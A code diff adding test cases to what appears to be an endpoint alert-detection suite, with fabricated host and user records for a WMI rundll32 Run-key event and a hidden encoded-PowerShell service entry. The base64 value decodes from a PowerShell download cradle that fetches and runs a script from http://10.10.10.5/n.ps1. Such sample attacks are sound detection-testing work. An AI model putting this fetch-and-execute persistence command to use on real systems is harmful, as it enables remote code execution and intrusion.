@@ -1,8 +1,34 @@
 import type { Alert } from '../../functions/alert/detection/index.ts';
 import { alertOf, RUN_KEY, runKeyEvent, USER_SID, writeEvent } from './fixture.ts';
 
-/** The eight alerts that differ most; each is a folder of `test/golden`. */
+/** The alerts that differ most; `golden.test.ts` says which are recorded. */
 export const CASES: { readonly [name: string]: () => Alert } = {
+  'rundll32-by-wmi': () => {
+    const { Effective_process: _, ...event } = writeEvent(
+      { key: `${USER_SID}\\${RUN_KEY}`, value: 'wmipers', strings: ['rundll32.exe a.dll, DllMain'] },
+      {
+        agent: { id: 'a7c1e0f2-5a39-47cb-8f05-6f3f0d2f4f10', type: 'endpoint', version: '8.19.2' },
+        host: {
+          id: '5f1c7d0a-3a52-4b0e-9a53-6e6b0a2f9b11',
+          ip: ['fe80::1c2d', '10.1.20.14'],
+          name: 'FIN-WS-042.corp.acme.com',
+          os: { type: 'windows', name: 'Windows', full: 'Windows 10 Pro 22H2', version: '22H2' },
+        },
+        user: { id: USER_SID, name: 'alice', domain: 'CORP' },
+      },
+    );
+    return alertOf(event, { history: { otherHosts: [], otherHostsMore: false, hostAlerts: 0 } });
+  },
+  'encoded-powershell': () =>
+    alertOf(
+      writeEvent({
+        hive: 'HKLM',
+        key: 'SYSTEM\\ControlSet001\\Services\\Updater',
+        value: 'ImagePath',
+        type: 'REG_EXPAND_SZ',
+        strings: [`%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -e ${ENCODED}`],
+      }),
+    ),
   'user-run-key': () =>
     alertOf(runKeyEvent(), {
       neighbours: {
@@ -121,3 +147,9 @@ export const CASES: { readonly [name: string]: () => Alert } = {
       { eventCut: true },
     ),
 };
+
+/** UTF-16LE in base64, as PowerShell takes it. */
+const ENCODED = Buffer.from(
+  "$c = New-Object Net.WebClient;\r\nIEX $c.DownloadString('http://10.10.10.5/n.ps1')",
+  'utf16le',
+).toString('base64');
